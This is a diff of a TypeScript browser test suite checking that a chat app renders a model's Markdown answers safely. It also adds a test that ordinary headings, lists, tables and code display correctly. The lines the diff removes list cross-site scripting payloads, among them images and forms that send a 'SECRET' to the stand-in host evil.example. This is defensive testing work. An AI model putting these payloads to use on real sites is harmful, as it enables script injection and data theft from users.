@@ -1,45 +1,14 @@
 /** Hostile Markdown in an answer: nothing runs, nothing is fetched. */
-import { existsSync, readdirSync, readFileSync } from 'node:fs';
-import { join } from 'node:path';
 import type { Browser } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { z } from 'zod';
 import { openBrowser } from './browser.ts';
 import { openPage } from './page.ts';
-import { root, startPerch } from './perch.ts';
+import { collected, OWN } from './payloads.ts';
+import { startPerch } from './perch.ts';
 import { startStandInModel } from './stand-in-model.ts';
 
-const OWN: readonly string[] = [
-  '<script>window.broken = 1</script>',
-  '<img src=x onerror="window.broken = 1">',
-  '![picture](https://evil.example/?d=SECRET)',
-  '![a][r]\n\n[r]: https://evil.example/?q=SECRET',
-  '[press](javascript:window.broken=1)',
-  '[press](data:text/html,<script>window.broken=1</script>)',
-  '<svg onload="window.broken = 1"><a xlink:href="javascript:window.broken=1"><text y="9">x</text></a></svg>',
-  '<iframe srcdoc="<script>parent.broken = 1</script>"></iframe>',
-  '<form action="https://evil.example"><input name="q" autofocus onfocus="window.broken = 1"></form>',
-  '<style>* { background: url(https://evil.example/css) }</style>',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  '<base href="https://evil.example/">',
-  '<video poster="https://evil.example/p"><source src="https://evil.example/v"></video>',
-  '<math><mi xlink:href="data:x,<script>window.broken=1</script>">x</mi></math>',
-  '<div style="background: url(https://evil.example/s)">x</div>',
-];
-const LISTS = join(root, '../shared/data/attacks/web');
 /** Payloads in one answer; more make one message unreasonably long. */
 const AT_ONCE = 60;
-
-function collected(): string[] {
-  if (!existsSync(LISTS)) return [];
-  return readdirSync(LISTS)
-    .filter((name) => /XSS|blns\.json/.test(name))
-    .flatMap((name) => {
-      const text = readFileSync(join(LISTS, name), 'utf8');
-      return name.endsWith('.json') ? z.array(z.string()).parse(JSON.parse(text)) : text.split('\n');
-    })
-    .filter((line) => line.trim() !== '');
-}
 
 let browser: Browser;
 beforeAll(async () => {
@@ -85,6 +54,49 @@ async function expectHarmless(payloads: readonly string[]): Promise<void> {
     await model.close();
   }
 }
+
+const ORDINARY = `### Pay
+
+12 fit, **two** pay *more*:
+
+1. one
+2. two
+   - inner [link](https://jobs.example.org/1)
+
+| a | b |
+|---|---|
+| 1 | \`x < y\` |
+
+> quoted &amp; decoded<br>next
+
+\`\`\`
+code <b>
+\`\`\``;
+
+describe('Markdown in an answer', () => {
+  it('shows headings, lists, tables, links and code as such', async () => {
+    const model = await startStandInModel(() => ({ text: ORDINARY }), 0);
+    const perch = await startPerch({
+      environment: { OPENAI_BASE_URL: model.url, LLM_MODEL: 'stand-in', ASSISTANT: 'model' },
+    });
+    const page = await openPage(browser, perch.url);
+    try {
+      await page.ask('Please show it');
+      const prose = page.page.locator('.prose').last();
+      const texts = async (selector: string): Promise<string[]> => await prose.locator(selector).allInnerTexts();
+      expect(await texts('h3, strong, em')).toEqual(['Pay', 'two', 'more']);
+      expect(await texts('ol > li > ul > li')).toEqual(['inner link']);
+      expect(await texts('th, td')).toEqual(['a', 'b', '1', 'x < y']);
+      expect(await texts('blockquote')).toEqual(['quoted & decoded\nnext']);
+      expect(await texts('pre')).toEqual(['code <b>']);
+      expect(await prose.getByRole('link').getAttribute('rel')).toContain('noreferrer');
+    } finally {
+      await page.context.close();
+      await perch.stop();
+      await model.close();
+    }
+  });
+});
 
 describe('hostile Markdown in an answer', () => {
   it('does nothing', async () => await expectHarmless(OWN));
